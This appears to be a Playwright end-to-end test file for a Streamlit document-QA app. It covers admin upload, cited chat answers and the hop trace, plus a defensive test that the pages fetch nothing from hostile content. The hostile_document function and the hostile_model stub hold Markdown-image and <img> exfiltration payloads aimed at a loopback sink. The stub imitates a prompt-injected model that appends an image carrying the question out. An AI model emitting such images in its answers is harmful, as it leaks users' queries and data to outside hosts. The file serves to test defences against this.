"""End to end in a real browser: `streamlit run ui/app.py` on a loopback port, Debian's Chromium
driven by Playwright. Sign in as admin, upload a document, ask in chat, see the cited answer,
open its trace. Screenshots of the three pages are saved under the data dir (and copied to
$HOPWISE_SCREENSHOTS_DIR when set, which is how docs/*.png are refreshed).

Untrusted text (security finding 3): a document whose text, heading and file name carry a
Markdown image, a bare URL and an <img> tag pointing at a loopback HTTP sink, and a model (the
local OpenAI stub) whose answer appends an exfiltration image; the pages show them as text and
neither the sink nor any other address hears a thing from the browser."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from hopwise.bench.startup import free_port, stop
from tests.fakes.openai_stub import Reply, StubOpenAIServer, plausible_responder, requested_schema
from tests.ui.apptools import ADMIN_PASSWORD

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[2]
HANDBOOK = """# Operations handbook

## Project Falcon
Project Falcon migrates the billing system to the new ledger. The project is led by Mei Lin,
who reports to the chief operating officer.

## Offices
Mei Lin is based in the Shenzhen office. The Shenzhen office opened in 2019 and hosts the
payments and ledger teams.

## Incident response
Severity 1 incidents must be acknowledged within 15 minutes. The on-call engineer pages the
incident commander, who opens a bridge call and posts updates every 30 minutes.
"""
QUESTION = "How fast must a severity 1 incident be acknowledged?"
MULTI_HOP = "Which office is the leader of Project Falcon based in?"


def wait_healthy(url: str, proc: subprocess.Popen, timeout_s: float = 60) -> None:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"streamlit exited with {proc.returncode}")
        try:
            with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as reply:
                if reply.status == 200:
                    return
        except OSError:
            time.sleep(0.3)
    raise TimeoutError("streamlit did not become healthy")


@contextmanager
def running_app(data: Path, **extra_env: str) -> Iterator[str]:
    """`streamlit run ui/app.py` on a free loopback port with a temp data dir; yields its URL."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("HOPWISE_")}
    env |= {
        "HOPWISE_DATA_DIR": str(data),
        "HOPWISE_ADMIN_PASSWORD": ADMIN_PASSWORD,
        "HOPWISE_WEB_SEARCH": "off",
        **extra_env,
    }
    port = free_port()
    cmd = [
        sys.executable, "-m", "streamlit", "run", "ui/app.py",
        "--server.port", str(port), "--server.address", "127.0.0.1",
        "--server.headless", "true", "--browser.gatherUsageStats", "false",
        "--client.toolbarMode", "viewer",
    ]  # fmt: skip
    log = (data.parent / "streamlit.log").open("w")
    proc = subprocess.Popen(cmd, cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_healthy(url, proc)
        yield url
    finally:
        stop(proc)
        log.close()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """The app as users start it, with a temp data dir and an admin password."""
    data = tmp_path_factory.mktemp("browser") / "data"
    with running_app(data) as url:
        yield url, data


def new_page(browser):
    """A fresh browser context (its own cookies and Streamlit session) and page."""
    page = browser.new_context(viewport={"width": 1400, "height": 1000}).new_page()
    page.set_default_timeout(60_000)
    return page


@pytest.fixture(scope="module")
def page(browser):
    page = new_page(browser)
    yield page
    page.context.close()


def shoot(page, data: Path, name: str) -> None:
    """Save a full-page screenshot as a test artifact (and to the docs when asked)."""
    page.wait_for_timeout(800)  # let charts and fonts settle
    height = page.evaluate(
        "() => Math.max(...Array.from(document.querySelectorAll('*'), e => e.scrollHeight))"
    )
    page.set_viewport_size({"width": 1400, "height": max(900, min(int(height), 2600))})
    page.wait_for_timeout(500)
    shots = data / "screenshots"
    shots.mkdir(parents=True, exist_ok=True)
    path = shots / f"{name}.png"
    page.screenshot(path=str(path))
    page.set_viewport_size({"width": 1400, "height": 1000})
    target = os.environ.get("HOPWISE_SCREENSHOTS_DIR")
    if target:
        shutil.copy(path, Path(target) / f"{name}.png")


def wait_idle(page) -> None:
    """Streamlit shows a running indicator while the script runs; wait until it is gone."""
    page.wait_for_selector("[data-testid='stStatusWidget']", state="detached", timeout=120_000)


def test_admin_upload_chat_and_trace_in_chromium(page, server, tmp_path: Path) -> None:
    url, data = server
    doc = tmp_path / "handbook.md"
    doc.write_text(HANDBOOK, encoding="utf-8")
    bad = tmp_path / "scan.pdf"
    bad.write_bytes(b"%PDF-1.4 not really a pdf")

    page.goto(f"{url}/admin")
    page.get_by_label("Admin password").fill("not it")
    page.get_by_role("button", name="Sign in").click()
    page.get_by_text("Wrong credentials.").wait_for()
    page.get_by_label("Admin password").fill(ADMIN_PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.locator("input[type=file]").set_input_files([str(doc), str(bad)])
    page.locator("[data-testid='stFileUploader']").get_by_text("scan.pdf").first.wait_for()
    page.get_by_role("button", name="Ingest").click()
    page.get_by_text("Last upload: 1 ingested, 0 skipped, 1 failed").wait_for()
    wait_idle(page)
    page.get_by_role("button", name="Preview").first.wait_for()  # the document's row actions
    # one summary table (a canvas), no progress bar per file left behind, an empty uploader
    assert page.get_by_text("2 of 2 files").count() == 0
    assert page.get_by_text("scan.pdf: failed").count() == 0
    from playwright.sync_api import expect

    uploader = page.locator("[data-testid='stFileUploader']")
    expect(uploader).to_have_count(1)  # the batch's uploader gone (a stale one fades after a rerun)
    assert uploader.get_by_text("scan.pdf").count() == 0
    shoot(page, data, "admin")

    page.get_by_role("link", name="Chat").click()
    page.get_by_text("extracted from your documents").wait_for()
    assistant = ask(page, QUESTION)
    assert "Answered in" in assistant.inner_text()
    assert "15 minutes" in assistant.inner_text()
    assert "[1]" in assistant.inner_text()
    assert "handbook.md · Operations handbook > Incident response" in assistant.inner_text()
    assistant.get_by_text("Full passage").first.click()
    assistant.get_by_text("opens a bridge call").first.wait_for()

    # a second question in the same chat: two hops, two sources (message 4, not the first)
    second = ask(page, MULTI_HOP, message=3)
    assert "[1]" in second.inner_text() and "Shenzhen" in second.inner_text()
    shoot(page, data, "chat")

    page.get_by_role("button", name="Open hop trace →").last.click()
    page.get_by_role("heading", name="Hop trace").wait_for()
    page.get_by_text("Path through the state machine").wait_for()
    page.locator("[data-testid='stGraphVizChart'] svg").wait_for()
    page.get_by_text("Query sent:").first.wait_for()
    wait_idle(page)
    assert "retrieve_hop" in page.locator("[data-testid='stGraphVizChart']").inner_text()
    assert "answer=2" in page.url and "thread=" in page.url
    shoot(page, data, "trace")
    for name in ("admin", "chat", "trace"):
        assert (data / "screenshots" / f"{name}.png").stat().st_size > 20_000


# ------------------------------------------------------------- untrusted text (finding 3)


class Sink(ThreadingHTTPServer):
    """A loopback HTTP server on a free port that records every request it gets."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        super().__init__(("127.0.0.1", 0), _SinkHandler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}"


class _SinkHandler(BaseHTTPRequestHandler):
    server: Sink

    def _record(self) -> None:
        self.server.heard.append(f"{self.command} {self.path}")
        self.send_response(204)
        self.end_headers()

    do_GET = do_POST = do_HEAD = do_OPTIONS = do_PUT = _record

    def log_message(self, *args: Any) -> None:  # quiet
        pass


@pytest.fixture
def sink() -> Iterator[Sink]:
    with Sink() as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        urllib.request.urlopen(f"{server.url}/self-check", timeout=5).close()
        assert server.heard == ["GET /self-check"]  # it does hear what is sent to it
        server.heard.clear()
        yield server
        server.shutdown()


def hostile_document(sink: str) -> str:
    """Text and heading with an image, a bare URL and an <img> tag, all aimed at the sink.
    (The offline reasoner ends a sentence at '!', so each image comes last in its sentence.)"""
    return f"""# Gadget policy ![x]({sink}/leak-heading)

## Refunds <img src={sink}/html-heading>
The refund window for hostile gadgets is forty five days, see {sink}/autolink and
www.example.com <img src={sink}/html> [click]({sink}/link) ![x]({sink}/leak-doc).
"""


HOSTILE_QUESTION = "What is the refund window for hostile gadgets?"


def upload_as_admin(page, url: str, path: Path) -> None:
    page.goto(f"{url}/admin")
    page.get_by_label("Admin password").fill(ADMIN_PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.locator("input[type=file]").set_input_files([str(path)])
    page.get_by_text(f"{path.stat().st_size}.0B").first.wait_for()  # the uploader's file chip
    page.get_by_role("button", name="Ingest").click()
    page.get_by_text("Last upload: 1 ingested").wait_for()
    wait_idle(page)


def shown(page) -> str:
    """The page's text as a reader sees it (ui.safe's zero-width word joiners dropped)."""
    return str(page.locator("body").inner_text()).replace("\u2060", "")


def ask(page, question: str, message: int | None = None):  # noqa: ANN201 - a Playwright locator
    """Ask on the open chat page and wait until the answer is complete; its message: the
    last one, or the `message`-th (0-based) when earlier answers would satisfy the wait."""
    box = page.get_by_placeholder("Ask a question about your documents…")
    box.fill(question)
    box.press("Enter")
    messages = page.locator("[data-testid='stChatMessage']")
    assistant = messages.last if message is None else messages.nth(message)
    assistant.get_by_role("button", name="Open hop trace →").wait_for(timeout=120_000)
    wait_idle(page)
    if message is not None:  # a rerun briefly keeps the last run's messages beside the new
        page.wait_for_function(
            "n => document.querySelectorAll(\"[data-testid='stChatMessage']\").length === n",
            arg=message + 1,
        )
    assistant.get_by_role("button", name="Stop").wait_for(state="detached")
    assistant.get_by_role("button", name="Open hop trace →").wait_for()
    return assistant


def ask_and_open_trace(page, question: str) -> str:
    """Ask on the chat page, wait for the answer, open its trace; the chat page's text."""
    page.get_by_role("link", name="Chat").click()
    ask(page, question)
    page.wait_for_timeout(1000)  # time for any image to be fetched
    chat = shown(page)
    page.get_by_role("button", name="Open hop trace →").last.click()
    page.get_by_role("heading", name="Hop trace").wait_for()
    page.get_by_text("Query sent:").first.wait_for()
    wait_idle(page)
    closed = page.locator("[data-testid='stExpander'] details:not([open]) > summary")
    for _ in range(50):  # open every hop and table, so everything on the page is drawn
        if not closed.count():
            break
        closed.first.click()
    page.wait_for_timeout(1000)
    return chat


def assert_nothing_left_the_page(page, sink: Sink, sent: list[str]) -> None:
    """The sink heard nothing, the browser asked nobody but the app, and no live element
    (image, link, frame, HTML) points anywhere near the sink."""
    assert sink.heard == []
    app = page.url.split("/", 3)[:3]
    foreign = [u for u in sent if u.split("/", 3)[:3] != app]  # favicon and fonts included
    assert foreign == [], foreign
    assert [u for u in sent if "leak" in u or "exfil" in u] == []
    port = sink.url.rsplit(":", 1)[1]
    selector = "img, a, iframe, source, video, audio, object, embed, link, script"
    live = page.evaluate(
        """([selector, port]) => Array.from(document.querySelectorAll(selector))
          .map(e => e.getAttribute('src') || e.getAttribute('href') || e.getAttribute('data') || '')
          .filter(v => !v.startsWith('#'))  // a heading's own in-page anchor
          .filter(v => v.includes(port) || v.includes('leak') || v.includes('exfil')
                       || v.includes('example.com') || v.startsWith('mailto:'))""",
        [selector, port],
    )
    assert live == []


def test_a_hostile_document_fetches_nothing_in_chromium(browser, server, sink, tmp_path) -> None:
    url, _ = server
    doc = tmp_path / "gadgets ![f](leak-file) <img src=leak-name>.md"
    doc.write_text(hostile_document(sink.url), encoding="utf-8")
    page = new_page(browser)
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url))
    question = f"{HOSTILE_QUESTION} ![q]({sink.url}/leak-question)"
    try:
        upload_as_admin(page, url, doc)
        # From here on: the chat and trace pages. (The admin page still renders an uploaded file's
        # name as Markdown, so `![f](leak-file)` is fetched from the app there: not in scope.)
        sent.clear()
        chat = ask_and_open_trace(page, question)
        trace = shown(page)
        assert_nothing_left_the_page(page, sink, sent)
    finally:
        page.context.close()
    assert f"![q]({sink.url}/leak-question)" in chat  # the question, echoed as text
    assert "gadgets ![f](leak-file) <img src=leak-name>.md" in chat  # the file name, as text
    # the heading, in the card's location: the Markdown file's image read as its alt text
    assert "Gadget policy x" in chat and "leak-heading" not in chat
    assert f"<img src={sink.url}/html>" in chat and f"{sink.url}/autolink" in chat
    assert f"click ({sink.url}/link)" in trace  # the body, as text (the heading is on the card)


def exfil_image(sink: Sink) -> str:
    return f"![status]({sink.url}/exfil?q=refund+window+hostile+gadgets)"


@pytest.fixture
def hostile_model(sink: Sink) -> Iterator[StubOpenAIServer]:
    """The model follows the document's hidden instruction: its answer appends an image that
    carries the question to the sink."""
    exfil = exfil_image(sink)

    def respond(request: dict[str, Any]) -> Reply:
        if requested_schema(request) is None:  # the streamed answer
            return Reply(content=f"The window is forty five days [1]. {exfil}")
        return plausible_responder(request)

    with StubOpenAIServer(responder=respond) as stub:
        yield stub


def test_a_model_answer_with_an_exfiltration_image_fetches_nothing(
    browser, sink, hostile_model, tmp_path_factory
) -> None:
    data = tmp_path_factory.mktemp("browser-llm") / "data"
    doc = data.parent / "gadgets.md"
    doc.write_text(hostile_document(sink.url), encoding="utf-8")
    llm = {
        "HOPWISE_LLM_BASE_URL": hostile_model.url,
        "HOPWISE_LLM_MODEL": "stub-model",
        "HOPWISE_LLM_API_KEY": "test-key",
        "HOPWISE_LLM_MAX_RETRIES": "0",
        # the page's own defence, on its own: with the claim check on, the uncited image
        # claim is cut before it reaches the page (tests/ui/test_untrusted_markdown.py)
        "HOPWISE_CLAIM_CHECK": "off",
    }
    with running_app(data, **llm) as url:
        page = new_page(browser)
        sent: list[str] = []
        page.on("request", lambda request: sent.append(request.url))
        try:
            upload_as_admin(page, url, doc)
            sent.clear()
            chat = ask_and_open_trace(page, HOSTILE_QUESTION)
            assert_nothing_left_the_page(page, sink, sent)
        finally:
            page.context.close()
    assert any(r.json.get("stream") for r in hostile_model.chat_requests)  # the model answered
    assert "mode: LLM" in chat
    assert exfil_image(sink) in chat  # shown, as text
